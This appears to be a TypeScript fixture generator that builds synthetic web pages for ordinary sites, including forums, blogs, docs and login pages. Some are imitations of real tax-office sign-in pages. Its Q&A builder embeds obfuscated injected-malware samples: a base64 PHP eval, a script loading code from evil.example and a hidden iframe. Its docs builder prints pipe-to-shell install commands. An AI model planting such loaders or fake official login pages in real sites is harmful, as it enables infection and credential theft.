/** Universities, authorities, clubs, forums, blogs, wikis and documentation. */
import { article, bare, css, login, script, site, teasers, times } from '../layout.ts';
import { type Builders, pages, type Spot } from '../spot.ts';
import { bundle, fresh } from '../vendors-new.ts';
import { old } from '../vendors-old.ts';

const posts = (s: Spot, count: number, markup: (n: number) => string) => times(count, markup) + s.w.comments;

const code = (lines: readonly string[]) =>
  `<pre><code>${lines.join('\n').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</code></pre>`;

export const publics: Builders = {
  university: pages(
    `en https://www.history.stourton.ac.uk/people/ Department of History
    de https://www.geo.uni-lahnstein.de/studium Institut für Geographie
    es https://www.filologia.unisierra.es/grado Facultad de Filología
    ja https://www.sci.tonan-u.ac.jp/admissions 東南大学理学部
    pl https://www.wydzial-chemii.uts.edu.pl/studia Wydział Chemii
    zh https://lib.donghu-edu.edu.cn/ 东湖大学图书馆`,
    (s) =>
      site(s, {
        era: s.r.pick(['floats', 'bootstrap']),
        early: [old.jqueryPlugin(s)],
        main: article(s, 5) + old.mailCloak(s),
        aside: login(s, `https://idp.${s.host.split('.').slice(-2).join('.')}/cas/login`),
        late: [s.lang === 'zh' ? fresh.baidu(s) : old.piwik(s)],
      }),
  ),
  'library-catalogue': pages(
    `en http://catalog.elmstreetlibrary.org/cgi-bin/koha/opac-main.pl Elm Street Library
    de http://opac.stadtbuecherei-sulz.de/cgi-bin/koha/opac-user.pl Stadtbücherei Sulz
    fr http://catalogue.mediatheque-arbois.fr/ Médiathèque d'Arbois`,
    (s) =>
      site(s, {
        era: 'floats',
        main: `<form action="/cgi-bin/koha/opac-search.pl"><input name="q"><select name="idx"><option>${s.w.name}</option></select></form><ol>${times(10, () => `<li><a href="/cgi-bin/koha/opac-detail.pl?biblionumber=${s.r.digits(5)}">${s.say()}</a></li>`)}</ol>${login(s, '/cgi-bin/koha/opac-user.pl', ['login_userid', 'login_password'])}`,
        late: [
          old.xhr(s),
          script(
            'var MSG_NO_RESULTS=_("No results");$(document).ready(function(){$(".loginModal-trigger").on("click",function(e){e.preventDefault();$("#loginModal").modal("show")});$(document).bind("keydown","ctrl+k",function(){$("#q").focus()});});',
          ),
        ],
      }),
  ),
  government: pages(
    `en https://www.northmoor.gov.uk/council-tax Northmoor Council
    de https://www.stadt-eichtal.de/rathaus/formulare Stadt Eichtal
    fr https://www.demarches.departement-lozanne.fr/ Département
    it https://www.comune.valsesina.vc.it/servizi Comune di Valsesina
    tr https://www.karabelediyesi.bel.tr/e-belediye Kara Belediyesi
    ar https://www.baladiya-sahel.gov.jo/ar/services بلدية الساحل`,
    (s) =>
      site(s, {
        era: s.r.pick(['semantic', 'bootstrap']),
        early: [fresh.matomo(s)],
        main: `<h1>${s.name}</h1>${times(6, () => `<details><summary>${s.say()}</summary><p>${s.say(3)}</p></details>`)}<form action="/forms/submit" method="post"><input name="name" placeholder="${s.w.name}"><input name="birth" type="date"><input name="iban" placeholder="IBAN"><button>${s.w.next}</button></form>`,
        late: [fresh.cookieBanner(s)],
      }),
  ),
  'tax-office-login': pages(
    `en https://www.tax.service.gov.uk/gg/sign-in HMRC: sign in
    de https://www.elster.de/eportal/login/softpse ELSTER Login
    fr https://cfspart.impots.gouv.fr/LoginAccess impots.gouv.fr
    es https://sede.agenciatributaria.gob.es/Sede/acceso Agencia Tributaria
    pl https://login.podatki.gov.pl/ e-Urząd Skarbowy`,
    (s) =>
      site(s, {
        era: 'semantic',
        title: s.name,
        main: `<h1>${s.name}</h1>${login(s, s.url, ['user_id', 'password'])}<p>${s.w.refund.replace(/\d.*/, '')}… ${s.say(2)}</p>`,
        late: [script(bundle(s, 14))],
      }),
  ),
  'learning-platform': pages(
    `en https://moodle.thornburycollege.ac.uk/login/index.php Moodle: Log in
    de https://moodle.gymnasium-auental.de/login/index.php Moodle
    es https://aula.iesribera.es/login/index.php Aula virtual
    pt https://moodle.esc-secundaria-douro.pt/login/index.php Moodle`,
    (s) =>
      bare(
        s,
        s.name,
        `<style>${css(s, 22)}</style><link rel="stylesheet" href="/theme/yui_combo.php?rollup/3.17.2/yui-moodlesimple-min.css">${script(`//<![CDATA[\nvar M={};M.yui={};M.pageloadstarttime=new Date();M.cfg={"wwwroot":"${s.origin.replaceAll('/', '\\/')}","sesskey":"${s.r.id(10)}","themerev":"${s.r.digits(10)}","slasharguments":1,"theme":"boost","jsrev":"${s.r.digits(10)}"};var yui1ConfigFn=function(me){if(/-skin|reset|fonts|grids|base/.test(me.name)){me.type='css'}};\n//]]>`)}`,
        `<div id="page"><h1>${s.name}</h1>${login(s, '/login/index.php', ['username', 'password'], `<input type="hidden" name="anchor"><input type="hidden" name="logintoken" value="${s.r.id(32)}">`)}<h2>${s.w.register}?</h2><form action="/login/index.php" method="post" id="guestlogin"><input type="hidden" name="username" value="guest"><input type="hidden" name="password" value="guest"><button>Guest</button></form></div>${script(bundle(s, 8))}`,
        'id="page-login-index" class="format-site path-login"',
      ),
  ),
  club: pages(
    `de http://www.sv-eintracht-altenau.de/ SV Eintracht Altenau
    en http://www.wrenthorpe-bowls.co.uk/fixtures.htm Wrenthorpe Bowls
    nl http://www.schaatsclub-hoorn.nl/ Schaatsclub Hoorn
    it http://www.parrocchia-sanvito.it/orari.html Parrocchia San Vito
    fr http://www.chorale-saint-aubin.fr/ Chorale Saint-Aubin`,
    (s) =>
      site(s, {
        era: s.n % 2 ? 'tables' : 'floats',
        early: [s.n % 2 ? old.clock(s) : old.mooTools(s)],
        main: article(s, 3) + old.mailCloak(s),
        aside: `<marquee>${s.say()}</marquee><img src="/cgi-bin/counter.pl?df=${s.r.id(6)}.dat" alt="counter">`,
        late: [old.statCounter(s)],
      }),
  ),
  practice: pages(
    `en https://www.highfielddental.co.uk/book Highfield Dental
    de https://www.praxis-dr-sommerfeld.de/ Praxis Dr. Sommerfeld
    es https://www.clinicaveterinarialuna.es/ Clínica Veterinaria Luna
    pt https://www.oficinadobairro.com.br/ Oficina do Bairro`,
    (s) =>
      site(s, {
        era: 'utility',
        early: [fresh.usercentrics(s)],
        main: `<h1>${s.name}</h1><p>${s.say(5)}</p><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d${s.r.digits(5)}" width="600" height="450" style="border:0" loading="lazy"></iframe><div class="calendly-inline-widget" data-url="https://calendly.com/${s.host.split('.')[1]}/30min" style="min-width:320px;height:700px;"></div><script src="https://assets.calendly.com/assets/external/widget.js" async></script><form action="https://formspree.io/f/${s.r.hex(8)}" method="POST"><input name="email" type="email" placeholder="${s.w.email}"><textarea name="message"></textarea><button>${s.w.contact}</button></form>`,
        late: [fresh.ga4(s), fresh.cloudflareMail(s)],
      }),
  ),
  'forum-phpbb': pages(
    `en http://www.oldtractorforum.net/viewtopic.php?f=4&t=331 Old Tractor Forum
    de http://forum.aquaristik-freunde.de/viewtopic.php?t=1221 Aquaristik-Freunde
    fr http://www.forum-modelisme.fr/viewtopic.php?f=2&t=55 Forum modélisme
    ru http://forum.rybalka-oka.ru/viewtopic.php?t=919 Рыбалка на Оке`,
    (s) =>
      site(s, {
        era: 'floats',
        early: [
          script(
            '// <![CDATA[\nvar jump_page=\'Enter the page number you wish to go to:\';var on_page=\'1\';var base_url=\'\';var style_cookie=\'phpBBstyle\';var onload_functions=new Array();var onunload_functions=new Array();function find_username(url){popup(url,760,570,"_usersearch");return false}function popup(url,width,height,name){window.open(url.replace(/&amp;/g,"&"),name,"height="+height+",resizable=yes,scrollbars=yes,width="+width)}window.onload=function(){for(var i=0;i<onload_functions.length;i++){eval(onload_functions[i])}};\n// ]]>',
          ),
        ],
        main: posts(
          s,
          9,
          () =>
            `<div class="post bg${s.r.int(1, 2)}"><p class="author"><strong>${s.r.id(7)}</strong> » ${s.r.int(1, 28)}.0${s.r.int(1, 9)}.2011</p><div class="content">${s.say(4)} <img src="./images/smilies/icon_e_smile.gif" alt=":)" /></div><div class="signature">http://www.${s.r.id(8).toLowerCase()}.example/</div></div>`,
        ),
        aside: login(s, `./ucp.php?mode=login&sid=${s.r.hex(32)}`),
        late: [old.gaAsync(s)],
      }),
  ),
  'forum-discourse': pages(
    `en https://community.openloom.org/t/warp-tension/3312 Open Loom Community
    de https://forum.lastenrad-bau.de/t/rahmen/12 Lastenrad-Forum
    es https://foro.impresoras3d.es/t/boquilla/5 Foro 3D`,
    (s) =>
      site(s, {
        era: 'semantic',
        early: [
          `<meta name="discourse/config/environment" content="${encodeURIComponent('{"modulePrefix":"discourse","environment":"production","rootURL":"/","EmberENV":{"FEATURES":{}}}')}"/>`,
        ],
        main: `<div id="data-preloaded" data-preloaded="{${times(8, () => `&quot;${s.r.id(8)}&quot;:&quot;{\\&quot;id\\&quot;:${s.r.digits(4)},\\&quot;raw\\&quot;:\\&quot;${s.say(2)}\\&quot;}&quot;`, ',')}}" hidden class="hidden"></div><form id="hidden-login-form" method="post" action="/login" style="display: none;"><input name="username" type="text" id="signin_username"><input name="password" type="password" id="signin_password"><input name="redirect" type="hidden"><input type="submit" id="signin-button" value="${s.w.login}"></form>${posts(s, 6, () => `<div class="topic-body"><p>${s.say(4)}</p></div>`)}`,
        late: [script(bundle(s, 12)), fresh.serviceWorker(s)],
      }),
  ),
  'blog-wordpress': pages(
    `en https://www.thegreenthumbdiary.com/pruning-roses/ The Green Thumb Diary
    de https://kochen-mit-oma-hilde.de/rezepte/apfelkuchen/ Kochen mit Oma Hilde
    fr https://carnetdevoyages-lea.fr/lisbonne/ Carnet de voyages
    it https://www.mammaincucina.blog/torta/ Mamma in cucina
    pl https://www.biegiemprzezgory.pl/szlak/ Biegiem przez góry
    tr https://www.gezginbaykus.com/kapadokya/ Gezgin Baykuş
    ja https://neko-to-kurasu.jp/blog/221/ 猫と暮らす
    nl https://www.moestuinmarie.nl/tomaten/ Moestuin Marie`,
    (s) =>
      site(s, {
        era: s.n % 2 ? 'semantic' : 'bootstrap',
        title: `${s.say()} - ${s.name}`,
        early: [
          fresh.wordpressEmoji(s),
          `<link rel="https://api.w.org/" href="${s.origin}/wp-json/"><meta name="generator" content="WordPress 6.${s.r.int(0, 6)}">`,
        ],
        main: `${article(s, 6)}<div id="comments">${posts(s, 4, () => `<li class="comment"><cite>${s.r.id(6)}</cite><p>${s.say(2)}</p></li>`)}<form action="/wp-comments-post.php" method="post"><textarea name="comment"></textarea><input name="author"><input name="email"><input name="url"><p style="display:none!important"><label>&#916;<textarea name="ak_hp_textarea" cols="45" rows="8"></textarea></label><input type="hidden" id="ak_js_1" name="ak_js" value="0">${script('document.getElementById("ak_js_1").setAttribute("value",(new Date()).getTime());')}</p></form></div>`,
        late: [
          script(
            `document.addEventListener('keydown',function(e){if(e.keyCode==37)location=document.querySelector('.nav-previous a').href;if(e.keyCode==39)location=document.querySelector('.nav-next a').href});`,
          ),
          fresh.vitals(s),
          s.r.pick([fresh.ga4, fresh.matomo, fresh.hotjar])(s),
          `<script type="rocketlazyloadscript" data-src="/wp-content/plugins/contact-form-7/includes/js/index.js" defer></script><script src="data:text/javascript;base64,${Buffer.from(`var wpcf7={"api":{"root":"${s.origin}/wp-json/","namespace":"contact-form-7/v1"}};`).toString('base64')}" defer></script>`,
        ],
      }),
  ),
  'newsletter-landing': pages(
    `en https://www.sundayoddments.com/ Sunday Oddments
    de https://www.gartenpost-newsletter.de/anmelden Gartenpost
    es https://www.cartasdesdelisboa.com/ Cartas desde Lisboa`,
    (s) =>
      site(s, {
        era: 'utility',
        main: `<h1>${s.name}</h1><p>${s.say(5)}</p><form action="https://${s.host.split('.')[1]}.us${s.r.int(2, 21)}.list-manage.com/subscribe/post?u=${s.r.hex(25)}&amp;id=${s.r.hex(10)}" method="post" target="_blank"><input type="email" name="EMAIL" placeholder="${s.w.email}"><div style="position: absolute; left: -5000px;" aria-hidden="true"><input type="text" name="b_${s.r.hex(25)}_${s.r.hex(10)}" tabindex="-1" value=""></div><button>${s.w.register}</button></form>`,
        late: [fresh.ga4(s), fresh.clarity(s), fresh.linkedIn(s)],
      }),
  ),
  wiki: pages(
    `en https://wiki.canalboats.org/index.php/Lock_gates Canal Boat Wiki
    de https://wiki.pilzfreunde.de/wiki/Steinpilz Pilzwiki
    ru https://ru.wiki-parovoz.org/wiki/Паровоз Паровозная вики
    zh https://zh.chajingwiki.org/wiki/绿茶 茶经百科`,
    (s) =>
      site(s, {
        era: 'semantic',
        early: [
          script(
            `document.documentElement.className="client-js";RLCONF={"wgBreakFrames":false,"wgPageName":"Page","wgUserName":null,"wgRequestId":"${s.r.uuid()}","wgCurRevisionId":${s.r.digits(6)}};RLSTATE={"ext.globalCssJs.user.styles":"ready","site.styles":"ready"};(RLQ=window.RLQ||[]).push(function(){mw.loader.impl(function(){return["user.options@12s5i",function($,jQuery,require,module){mw.user.tokens.set({"patrolToken":"+\\\\","watchToken":"+\\\\","csrfToken":"+\\\\"});}];});});`,
          ),
        ],
        main: `${article(s, 9)}<table class="infobox">${times(9, () => `<tr><th>${s.r.id(5)}</th><td>${s.say()}</td></tr>`)}</table>`,
      }),
  ),
  'documentation-site': pages(
    `en https://docs.looomkit.dev/guide/install Loomkit docs
    de https://handbuch.messtechnik-wenzel.de/kap3.html Handbuch
    en https://quietparser.readthedocs.io/en/latest/ quietparser
    ja https://docs.kumiko-db.jp/start クミコDB`,
    (s) =>
      site(s, {
        era: 'semantic',
        early: [
          script(
            `var DOCUMENTATION_OPTIONS={URL_ROOT:"./",VERSION:"2.1",LANGUAGE:"${s.lang}",COLLAPSE_INDEX:false};!function(){function t(t){document.documentElement.setAttribute("data-theme",t)}var e=function(){try{return localStorage.getItem("theme")}catch(t){}}();t(null!==e?e:"light")}();`,
          ),
        ],
        main: `<h1>Install</h1>${code([`curl -fsSL https://${s.host}/install.sh | sh`, 'powershell -c "irm https://get.example.dev/install.ps1 | iex"', 'npm install loomkit', 'export API_KEY=your-key'])}<button class="copy" data-clipboard>Copy</button><p>${s.say(6)}</p>${code(['const page = await loom.open("draft.txt");', 'eval(page.source); // never do this', 'document.write("<b>" + page.title + "</b>");'])}<p>${s.say(3)}</p>`,
        late: [
          script(
            'document.querySelectorAll(".copy").forEach(b=>b.onclick=()=>navigator.clipboard.writeText(b.previousElementSibling.innerText).then(()=>{b.textContent="Copied!"}));',
          ),
          fresh.shortcuts(s),
        ],
      }),
  ),
  'api-reference': pages(
    `en https://api.harvestrouter.com/docs Harvestrouter API
    en http://10.1.2.3:8080/swagger-ui/index.html Swagger UI
    de https://entwickler.fahrplan-verbund.de/ Fahrplan-API`,
    (s) =>
      bare(
        s,
        s.name,
        `<link rel="stylesheet" href="https://unpkg.com/swagger-ui-dist@5/swagger-ui.css"><style>${css(s, 20)}</style>`,
        `<svg style="position:absolute;width:0;height:0"><defs><symbol viewBox="0 0 20 20" id="unlocked"><path d="M15.8 8H14V5.6C14 2.703 12.665 1 10 1"/></symbol></defs></svg><div id="swagger-ui"></div><script src="https://unpkg.com/swagger-ui-dist@5/swagger-ui-bundle.js"></script>${script(`window.onload=function(){window.ui=SwaggerUIBundle({spec:${JSON.stringify({ openapi: '3.0.1', paths: Object.fromEntries(Array.from({ length: 14 }, () => [`/v1/${s.r.id(6)}`, { post: { summary: s.say(), security: [{ bearer: [] }], parameters: [{ name: 'password', in: 'query' }] } }])) })},dom_id:'#swagger-ui',deepLinking:true,persistAuthorization:true})}`)}`,
      ),
  ),
  'questions-and-answers': pages(
    `en https://stackhelp.devqa.net/questions/33121/what-does-this-obfuscated-javascript-do What does this script do?
    de https://fragen.programmierhilfe.net/q/551/eval-unescape eval(unescape()) verstehen
    pt https://perguntas.codigofacil.com.br/q/12 Código estranho no WordPress`,
    (s) =>
      site(s, {
        era: 'bootstrap',
        title: s.name,
        main: `<h1>${s.name}</h1><p>${s.say(2)}</p>${code([`<?php eval(base64_decode("${s.r.base64(120)}")); ?>`, `<script>var _0x${s.r.hex(4)}=["\\x66\\x72\\x6F\\x6D","\\x6C\\x65\\x6E"];document.write(unescape("%3Cscript src=%22http://evil.example/x.js%22%3E%3C/script%3E"))</script>`, `<iframe src="http://evil.example/in.cgi?2" width="1" height="1" style="visibility:hidden"></iframe>`])}${posts(s, 4, () => `<div class="answer"><p>${s.say(3)}</p>${code(['console.log(atob("aGVsbG8="));'])}</div>`)}`,
        late: [old.gaAsync(s)],
      }),
  ),
  'mailing-list-archive': pages(
    `en http://lists.tapeserver.org/pipermail/users/2009-March/004412.html [tape] restore fails
    de http://lists.lug-wiesental.de/pipermail/lug/2008/000221.html [lug] Treffen
    fr http://listes.gulliver-asso.org/archives/2010/55.html [gul] install-party`,
    (s) =>
      `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2//EN">\n<HTML><HEAD><TITLE>${s.name}</TITLE><META NAME="robots" CONTENT="index,nofollow"><LINK REL="made" HREF="mailto:users%40${s.host}?Subject=Re%3A"></HEAD><BODY BGCOLOR="#ffffff"><H1>${s.name}</H1><B>${s.r.id(6)}</B> <A HREF="mailto:x">user at ${s.host}</A><BR><I>Tue Mar 3 10:2${s.r.int(0, 9)}:11 CET 2009</I><HR><PRE>${times(24, () => `&gt; ${s.say()}\n${s.say(2)}`)}</PRE><HR></BODY></HTML>`,
  ),
  recipes: pages(
    `en https://www.breadbinstories.com/soda-bread Bread Bin Stories
    de https://www.linsen-und-co.de/suppe Linsen & Co
    it https://www.pastafrescaracconti.it/tortelli Pasta fresca
    ar https://www.matbakh-salma.com/recipes/12 مطبخ سلمى`,
    (s) =>
      site(s, {
        era: 'semantic',
        early: [fresh.gpt(s), fresh.didomi(s)],
        main: `${article(s, 5)}<button onclick="window.print()">⎙</button><ul>${times(9, () => `<li>${s.r.int(1, 500)} g ${s.r.id(6)}</li>`)}</ul>`,
        late: [
          script(
            'let lock;document.querySelector("[data-cook]")?.addEventListener("change",async()=>{lock=await navigator.wakeLock.request("screen")});',
          ),
          fresh.chartbeat(s),
          fresh.cookieBanner(s),
        ],
      }),
  ),
  'jobs-and-homes': pages(
    `en https://www.ruralvacancies.co.uk/apply/331 Rural Vacancies
    de https://www.wohnraum-nord.de/expose/8812 Wohnraum Nord
    fr https://www.emploi-bocage.fr/offres/12 Emploi Bocage
    tr https://www.evimburada.com.tr/ilan/991 Evim Burada`,
    (s) =>
      site(s, {
        era: 'utility',
        early: [fresh.gtm(s)],
        main: `${teasers(s, 5)}<form action="/apply" method="post" enctype="multipart/form-data"><input name="name" placeholder="${s.w.name}"><input name="phone" placeholder="${s.w.phone}"><input type="file" name="cv" accept=".pdf,.docx"><input type="password" name="password" placeholder="${s.w.password}"><button>${s.w.register}</button></form>`,
        late: [fresh.linkedIn(s), fresh.hotjar(s), fresh.intercom(s)],
      }),
  ),
  'honest-competition': pages(
    `en https://www.valleycourier.com/competitions/garden-tools Win garden tools
    de https://www.werra-bote.de/gewinnspiel/ballonfahrt Gewinnspiel: Ballonfahrt
    nl https://www.kustbode.nl/prijsvraag Prijsvraag`,
    (s) =>
      site(s, {
        era: 'semantic',
        title: s.name,
        early: [fresh.cookiebot(s)],
        main: `<h1>${s.name}</h1><p>${s.say(4)}</p><form action="/competitions/enter" method="post"><input name="name" placeholder="${s.w.name}"><input name="email" placeholder="${s.w.email}"><input name="answer"><label><input type="checkbox" required>${s.w.terms}</label><button>${s.w.next}</button></form>`,
        late: [fresh.ga4(s), fresh.recaptcha(s)],
      }),
  ),
};
